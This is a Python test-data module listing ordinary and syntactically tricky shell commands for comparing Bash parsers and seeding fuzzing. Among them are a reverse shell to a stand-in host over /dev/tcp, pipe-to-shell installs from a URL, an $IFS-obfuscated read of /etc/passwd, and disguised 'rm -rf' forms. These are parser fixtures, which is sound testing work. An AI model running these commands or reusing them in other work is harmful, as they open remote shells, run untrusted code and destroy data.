"""Varied shell commands, for comparing two parsers and as seeds of fuzzing: everyday ones and tricky ones.

Belongs here: texts that Bash accepts. Must not be here: what they mean (`test_parse`).
"""

EVERYDAY = r"""
ls -la
git status --short
git commit -m "fix: it's done" && git push origin "$(git branch --show-current)"
git log --oneline -n 5 | head -3
git diff HEAD~1 -- src/ | grep '^+' | wc -l
git checkout -b feature/x || git checkout feature/x
git -C /srv/app rev-parse --short HEAD
npm ci && npm run build -- --mode=production
npx -y @scope/tool@1.2.3 --flag value
pip install -r requirements.txt
python -m pytest -q tests/unit -k "not slow" 2>&1 | tail -20
python3 -c 'import json,sys; print(json.load(sys.stdin)["a"])' < data.json
node -e "console.log(process.version)"
cargo test --all-features -- --nocapture
go test ./... -run '^TestX$' -count=1
make -j"$(nproc)" CC=clang all
docker run --rm -it -v "$PWD":/work -w /work img:latest bash -lc 'make test'
docker compose up -d --build web db
docker exec -it "$(docker ps -qf name=web)" sh
kubectl get pods -n prod -o jsonpath='{.items[*].metadata.name}'
kubectl logs -f deploy/api --tail=100 | grep -i error
terraform plan -out=tf.plan -var "region=eu-west-1"
aws s3 sync ./dist s3://bucket/path --delete --exclude '*.map'
curl -sSL https://example.com/api | jq -r '.items[] | "\(.id) \(.name)"'
curl -X POST -H 'Content-Type: application/json' -d '{"a":1}' http://localhost:8080/x
wget -qO- https://example.com/install.sh | bash -s -- --yes
find . -name '*.pyc' -delete
find . -type f \( -name '*.js' -o -name '*.ts' \) -not -path '*/node_modules/*' -exec grep -l TODO {} +
find /tmp -mtime +7 -print0 | xargs -0 rm -f
grep -rn "foo(bar)" --include='*.py' src | sort -u > /tmp/out.txt
sed -i.bak 's/old/new/g; /^#/d' file.conf
sed -n '10,20p' file.txt
awk -F: '{ print $1, $3 }' /etc/passwd
awk 'BEGIN { for (i = 0; i < 3; i++) print i }'
tar czf - src | ssh host 'tar xzf - -C /srv'
rsync -av --delete -e 'ssh -p 2222' ./ user@host:/srv/
ssh -i ~/.ssh/key user@host "cd /srv && ./deploy.sh $TAG"
scp file user@host:~/
chmod +x ./run.sh && ./run.sh
sudo apt-get update && sudo apt-get install -y build-essential
sudo -u postgres psql -c 'select 1'
export NODE_ENV=production PORT=3000
FOO=bar BAZ="a b" ./cmd --opt
unset FOO BAR
cd "$(dirname "$0")" && pwd
mkdir -p a/{b,c}/d && touch a/{b,c}/d/{1..3}.txt
rm -rf node_modules dist *.log
cp -r src/. dest/
mv "$f" "${f%.txt}.md"
echo "done" >> log.txt 2>&1
echo $((1 + 2)) "$((x * 2))"
echo "path: ${PATH:-none} ${HOME#/} ${x:+y} ${y//a/b} ${z:1:2} ${#arr[@]} ${arr[0]} ${!ref}"
test -f x && echo yes || echo no
[ -d "$dir" ] || mkdir "$dir"
[ "$a" = "b" ] && [ "$c" != "d" ]
[[ -n $x && $y == a* || ! -e z ]]
[[ $v =~ ^[0-9]+$ ]] && echo num
(( x > 3 )) && echo big
((i++))
let x=1+2
true; false; :
sleep 5 &
(sleep 1; echo hi) &
wait $!
kill -9 1234
kill $(lsof -ti:3000)
ps aux | grep '[n]ode' | awk '{print $2}' | xargs kill
nohup ./server > server.log 2>&1 &
timeout 10s ./slow || echo timed out
time make
command -v node >/dev/null 2>&1 || { echo missing >&2; exit 1; }
type -p python
source venv/bin/activate
. ./env.sh && run
set -euo pipefail
trap 'rm -f "$tmp"' EXIT INT
tmp=$(mktemp -d)
read -r -p "Name: " name
printf '%s\n' "$@"
printf "%d items\n" 3
cat file1 file2 > both
cat <(sort a) <(sort b) | uniq -d
diff <(ls a) <(ls b)
tee >(gzip > x.gz) < input > /dev/null
exec > >(tee -a log) 2>&1
exec 3< file; read -u 3 line; exec 3<&-
jq '.a[] | select(.b == "c")' x.json
xargs -n1 -P4 -I{} sh -c 'echo {}; sleep 1' < list
""".strip().split("\n")
"""One command a line."""

TRICKY = [
    'for f in *.txt; do mv "$f" "${f%.txt}.md"; done',
    "for i in {1..5}; do echo $i; done",
    "for i in $(seq 1 3); do\n  echo $i\ndone",
    "for x; do echo $x; done",
    "for ((i = 0; i < 3; i++)); do echo $i; done",
    'while read -r line; do echo "$line"; done < file',
    "while true; do date; sleep 1; done",
    "until ping -c1 host; do sleep 1; done",
    "cat x | while IFS=, read -r a b; do echo $a; done",
    "if [ -f x ]; then cat x; elif [ -d x ]; then ls x; else echo none; fi",
    "if ! grep -q x f; then echo no; fi",
    "case $1 in start) run;; stop|halt) kill 1;; *) echo usage; exit 1;; esac",
    "case \"$x\" in\n  a*) echo a ;;\n  [0-9]) echo n ;;&\n  'b c') echo q ;;\nesac",
    'f() { echo "$1"; }; f x',
    "function g { local a=1; return $a; }",
    "h() ( cd /tmp && ls )",
    "k() { ls; } > /dev/null 2>&1",
    "a && b || c && d",
    "a; b & c",
    "a | b |& c",
    "! a | b",
    "{ a; b; } > f 2>&1",
    "( a; b ) | c",
    "{ echo a; cat; } <<< 'x' | sort",
    "cat <<EOF\nhello $USER\nEOF",
    "cat <<'EOF' > f.sh\n#!/bin/sh\necho \"$x\"\nEOF",
    "cat <<-EOF\n\tindented\n\tEOF",
    "cat <<EOF | grep a && echo b\nabc\nEOF",
    'cat <<"E O F"\nx\nE O F',
    "cat > a <<EOF\n\n  leading\n\nEOF",
    "cat <<EOF\n$(date)\n`whoami`\n${x:-y}\nEOF\necho after",
    "python3 <<'PY'\nimport os\nprint(os.getcwd())\nPY",
    "python3 - <<'PY'\nprint(1)\nPY",
    "python3 - \"$x\" <<'PY'\nprint(1)\nPY",
    "ssh host bash -s <<'EOF'\nls\nEOF",
    "mysql -u root <<SQL\nselect 1;\nSQL",
    "sh <<A; echo b\nx\nA",
    "cat <<A <<B\nx\nA\ny\nB",
    "cat <<E arg | sh\ny\nE",
    "while cat <<E; do x; done\ny\nE",
    "cat <<EOF && { echo a; }\nx\nEOF",
    'cat <<< "a b" | tr a b',
    'grep x <<<"$y" > out',
    "a 2>&1 <<< hi",
    "a > f 2>&1 < g",
    "a &> f; b &>> f; c >| f; d <> f; e 2>&-",
    "ls <f -l >g",
    "2>&1 >f ls -l",
    ">f",
    "a=1 > f",
    "3<>/dev/tcp/h/1 cat",
    "exec 3<>/dev/tcp/127.0.0.1/80",
    "x=1 y=2",
    "x=1\ny=2\necho $x",
    "dir=$1 file=$2\necho $dir",
    "x=$y/$z\necho $x",
    "p=$dir/$name/$app",
    "x=(a b 'c d'); echo \"${x[@]}\"",
    "x+=(d); x[3]=e; x+=f",
    'declare -A m=([a]=1 [b]="2 3")',
    "declare -x A=1 B",
    "local a b=$1",
    "readonly X=1",
    'export PATH="$HOME/bin:$PATH"',
    "typeset -i n=3",
    "echo $'a\\nb' $\"hi\" \"a\"'b'c\\ d",
    'echo "nested $(echo "inner $(echo deep)")"',
    "echo `echo \\`date\\``",
    "echo $(case x in x) echo y;; esac)",
    "echo $(echo ')')",
    'echo "${x:-"default value"}" ${y:-\'q\'}',
    "echo ${a[@]:1:2} ${!a[@]} ${a[-1]} ${x^^} ${x,,} ${x@Q}",
    "echo ${x/#a/b} ${x/%a/b} ${x//[^a-z]/_}",
    "echo $(( (1+2) * 3 )) $((0x10)) $[1+1]",
    "echo !(a|b) @(c|d)",
    "ls !(*.txt)",
    "rm -rf !(keep)",
    "shopt -s extglob; rm !(*.c)",
    "[[ $a == @(x|y) ]]",
    "[[ ( $a == b || $c == d ) && -f e ]]",
    "[[ $a < $b ]]",
    "[ \\( a = b \\) -o c = d ]",
    "time -p ls | wc -l",
    "time { a; b; }",
    "coproc cat",
    "coproc NAME { cat; }",
    "select x in a b; do echo $x; break; done",
    "\\rm x; r\\m x; 'rm' x; \"r\"m x",
    "{rm,-rf,/tmp/x}",
    "echo {a,b}{1,2} {a..c} pre{x,}post",
    '$X -rf /; ${X} a; "$X" b',
    "cat$IFS/etc/passwd",
    "a\\\n  b \\\n  c",
    "a &&\n  b ||\n  c",
    "a |\n  b |\n  c",
    "# comment\na # trailing\nb",
    "a; b;",
    "if a; then\n  # note\n  b\nfi",
    "é=1; echo ünïcode \"日本\" 'ß'",
    "echo a;echo b;(echo c);{ echo d;}",
    'eval "$(ssh-agent -s)"',
    'bash -c "echo \\"hi\\" && ls"',
    "bash <(curl -s https://example.com/x.sh)",
    "env -i A=b sh -c 'echo $A'",
    'find . -exec sh -c \'mv "$1" "${1%.a}.b"\' _ {} \\;',
    "alias ll='ls -l'; ll",
    "(( $(a) + 1 ))",
    "x=$(<file)",
    "x=$(cat <<EOF\nabc\nEOF\n)",
    "echo \"$(cat <<'EOF'\nit's\nEOF\n)\"",
    "git commit -m \"$(cat <<'EOF'\nfeat: a (b)\n\nbody's text\nEOF\n)\"",
    "a=b c=d e f=g",
    "a() { b; }; c() { d; }; a && c",
    "f() { g; } && h",
    "test x || { a; exit 1; }",
    "if (a; b); then c; fi",
    "while :; do { a; } || break; done &",
    "for a in b; do case $a in c) d;; esac; done | sort",
    "a $(b | c $(d)) `e` <(f) >(g)",
    'echo ${x:-$(a)} "${y:=`b`}"',
    'echo a > "$f" 2> ${g}.log',
    "a --opt=\"x y\" --path=~/z -k'v'",
    "a '' \"\" b",
    "echo -- - --- -",
    "x='a\nb'; echo \"$x\"",
    "yes | head -1; :",
    "unset -f a; unset b[0]",
    "a=; b= c",
    'echo $@ "$@" $* $# $? $$ $! $0 $1 ${10} $-',
    'arr=($(ls)); for i in "${arr[@]}"; do echo "$i"; done',
    "if [[ $x ]]; then a; fi; [[ ! $y ]] && b",
    "a >&2; b 1>&2 2>/dev/null; c >/dev/null 2>&1 </dev/null",
    "bash -i >& /dev/tcp/h/1 0>&1",
    "a > f 0<&3 2>&1 b",
    "a >f b 2>g c 3>&1 4<&-",
    "a < f 3>&1 | b 2> g 1>&2",
    "{ a; } > f 3>&1 2>&3",
    "a &> f 2> g; b > f 2>> g < h",
    "a 2>f 1>&2 <<E 3>&1\nx\nE",
    "a 1 2 3 > f 4 5>&1",
    'a2>f; a 2 >f; a "2">f',
    "{ a & } 2>/dev/null; wait",
    "a <<'E' | b <<'F'\n1\nE\n2\nF",
    "echo 'multi\nline' | sh",
    "until a; do b; c; done 2>&1 | tee log",
    "function f() { a; }; f",
    "a ; # b\n\n\nc",
    "if a;then b;else c;fi",
    "echo ${x#*:} ${x%%/*} ${x:(-3)} ${x: -3}",
    "echo \\$x '$x' \"\\$x\"",
    'test -z "${x-}" -a -n "${y+z}"',
]
"""Forms that parsers get wrong."""

COMMANDS = [*EVERYDAY, *TRICKY]
